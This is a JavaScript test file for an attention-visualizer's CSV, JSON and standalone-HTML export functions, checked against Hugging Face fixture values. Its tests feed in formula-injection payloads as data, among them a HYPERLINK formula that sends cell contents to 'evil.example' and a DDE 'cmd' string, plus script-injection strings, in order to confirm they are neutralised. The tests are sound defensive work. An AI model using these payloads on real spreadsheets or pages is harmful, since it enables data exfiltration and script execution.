// Data exports and the standalone HTML (web/js/lib/export_data.js), checked
// against Hugging Face numbers (tests/web/fixtures/minilm-pair.json).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { toCSV, toJSON, standaloneHtml, snapshotTextOf } from '../../web/js/lib/export_data.js';
import { viewById } from '../../web/js/views/index.js';

// What a view exports is its descriptor's (issue 36: views own their exports).
const shownMatrices = (run, s) => viewById(s.view).shown(run, s);

const fx = JSON.parse(readFileSync(new URL('./fixtures/minilm-pair.json', import.meta.url)));
const { T, H, d } = fx;
const run = {
  tokens: fx.tokens, typeIds: fx.type_ids, wordIds: fx.word_ids, T, L: 2, H, d,
  attn: [Float32Array.from(fx.attentions[0]), Float32Array.from(fx.attentions[1])], norms: null,
};
const base = { view: 'heatmap', layer: 0, head: 5, mode: 'attn', query: 0, hide: false, renorm: true, words: false, heads: null, text: fx.text, text_b: fx.text_b };

function csvRows(text) {
  return text.split('\r\n').map((l) => l.split(','));
}

test('heatmap CSV: token labels on both axes, HF attention to 6 significant digits', () => {
  const rows = csvRows(toCSV(shownMatrices(run, base)));
  assert.deepEqual(rows[0], ['layer 0 head 5 attention', ...fx.tokens]);
  for (let i = 0; i < T; i++) {
    assert.equal(rows[1 + i][0], fx.tokens[i]);
    for (let j = 0; j < T; j++) {
      const ref = fx.attentions[0][(5 * T + i) * T + j];
      assert.ok(Math.abs(Number(rows[1 + i][1 + j]) - ref) <= Math.abs(ref) * 1e-5 + 1e-7, `${i},${j}`);
    }
  }
});

test('mean of heads with [CLS]/[SEP] hidden and words merged: labels and renormalized rows', () => {
  const shown = shownMatrices(run, { ...base, head: 'mean', hide: true, words: true });
  const [b] = shown.blocks;
  assert.equal(b.head, 'mean');
  assert.ok(!b.rows.includes('[CLS]') && !b.rows.includes('[SEP]'));
  assert.ok(b.rows.includes('unbelievably') && b.rows.includes('soundly'));
  const K = b.cols.length;
  for (let i = 0; i < K; i++) {
    const sum = b.values.slice(i * K, i * K + K).reduce((s, v) => s + v, 0);
    assert.ok(Math.abs(sum - 1) < 1e-5, `row ${i} sums to ${sum}`);
  }
  const json = JSON.parse(toJSON(shown, { id: 'minilm-l6-q8', name: 'MiniLM' }));
  assert.equal(json.model, 'minilm-l6-q8');
  assert.equal(json.hide_specials, true);
  assert.equal(json.words_merged, true);
  assert.equal(json.blocks[0].values.length, K);
  assert.deepEqual(json.tokens, fx.tokens);
});

test('head view exports the shown heads; model view every layer and head; neuron view one row', () => {
  assert.deepEqual(shownMatrices(run, { ...base, view: 'head', heads: [2, 7] }).blocks.map((b) => b.head), [2, 7]);
  assert.equal(shownMatrices(run, { ...base, view: 'model' }).blocks.length, 2 * H);
  const n = shownMatrices(run, { ...base, view: 'neuron', layer: 1, head: 4, query: 8 });
  assert.equal(n.blocks.length, 1);
  assert.deepEqual(n.blocks[0].rows, ['cat']);
  n.blocks[0].values.forEach((v, j) => assert.ok(Math.abs(v - fx.qk_attention[(4 * T + 8) * T + j]) < 1e-6));
  assert.throws(() => shownMatrices(run, { ...base, mode: 'norm' }), /no norms/);
});

test('CSV quotes labels with commas and quotes', () => {
  const r = { ...run, tokens: fx.tokens.map((t, i) => (i === 1 ? 'a,"b"' : t)) };
  const csv = toCSV(shownMatrices(r, base));
  assert.ok(csv.split('\r\n')[0].includes(',"a,""b""",'));
});

/** RFC 4180 parse (quoted fields, "" inside quotes), for checking cells exactly. */
function parseCSV(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') q = false; else cell += c;
    } else if (c === '"') q = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

test('CSV formula injection: text cells starting =, +, -, @, TAB or CR get a leading quote; numbers stay numbers', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-5', '-', '\tx', '\r=1+1', '=1,2', 'plain', '-0.5'];
  const tokens = fx.tokens.map((t, i) => (i >= 1 && i <= hostile.length ? hostile[i - 1] : t));
  const r = { ...run, tokens };
  // Negative values in the numbers: a norm-like run with every value negated.
  const neg = { ...r, attn: r.attn.map((a) => a.map((v) => -v)) };
  const rows = parseCSV(toCSV(shownMatrices(neg, base)));
  const header = rows[0];
  assert.equal(header[0], 'layer 0 head 5 attention');
  for (let k = 0; k < hostile.length; k++) {
    const want = /^[=+\-@\t\r]/.test(hostile[k]) ? `'${hostile[k]}` : hostile[k];
    assert.equal(header[1 + k + 1], want, `column label ${JSON.stringify(hostile[k])}`);
    assert.equal(rows[1 + k + 1][0], want, `row label ${JSON.stringify(hostile[k])}`);
  }
  // No text cell a spreadsheet would run: every cell starting with one of
  // the trigger characters is a number.
  for (const row of rows.filter((x) => x.length > 1)) {
    for (const [j, cell] of row.entries()) {
      if (/^[=+\-@\t\r]/.test(cell)) assert.ok(j > 0 && Number.isFinite(Number(cell)), `cell ${JSON.stringify(cell)} would run as a formula`);
    }
  }
  // Values are written as plain numbers, minus sign and all.
  const v = rows[1][1];
  assert.match(v, /^-\d/);
  assert.ok(Math.abs(Number(v) + fx.attentions[0][(5 * T) * T]) <= 1e-5, v);
  // The neuron view's row label (the query token) too.
  const n = parseCSV(toCSV(shownMatrices(r, { ...base, view: 'neuron', layer: 1, head: 4, query: 1 })));
  assert.equal(n[1][0], `'${hostile[0]}`);
});

test('standalone HTML carries the snapshot in an inert JSON script; user text cannot close it', () => {
  const tpl = '<!doctype html><html><head><title>bertlens</title></head><body></body></html>';
  const page = standaloneHtml(tpl, 'AbC-_0', 'bertlens heatmap: </script><script>alert(1)</script>', 'https://example.org/?text=%3C/script%3E');
  assert.equal((page.match(/<script/g) || []).length, 1);
  assert.equal((page.match(/<\/script>/g) || []).length, 1);
  const json = page.match(/<script type="application\/json" id="bertlens-snapshot">([^<]*)<\/script>/)[1];
  assert.deepEqual(JSON.parse(json), { s: 'AbC-_0', from: 'https://example.org/?text=%3C/script%3E' });
  assert.match(page, /<title>bertlens heatmap: &lt;\/script&gt;/);
  assert.equal(snapshotTextOf('', json), 'AbC-_0');
  assert.equal(snapshotTextOf('#s=XyZ', json), 'XyZ');
  assert.equal(snapshotTextOf('', null), null);
  assert.equal(snapshotTextOf('', '{bad'), '!');
  assert.throws(() => standaloneHtml(tpl, 'a"><script>', 't'), /not a snapshot/);
  assert.throws(() => standaloneHtml('<html><body></body></html>', 'AbC', 't'), /no <head>/);
  // Inlined scripts may contain the text "</head>": the tag still goes into the real head.
  const tricky = '<!doctype html><html><head><title>x</title><script>const s = "</head>";</script></head><body></body></html>';
  const out = standaloneHtml(tricky, 'AbC', 'bertlens');
  assert.ok(out.indexOf('id="bertlens-snapshot"') < out.indexOf('<script>const s'));
  assert.ok(out.includes('<script>const s = "</head>";</script>'));
  assert.ok(!standaloneHtml(tpl, 'AbC', 't', 'javascript:alert(1)').includes('javascript:'));
});
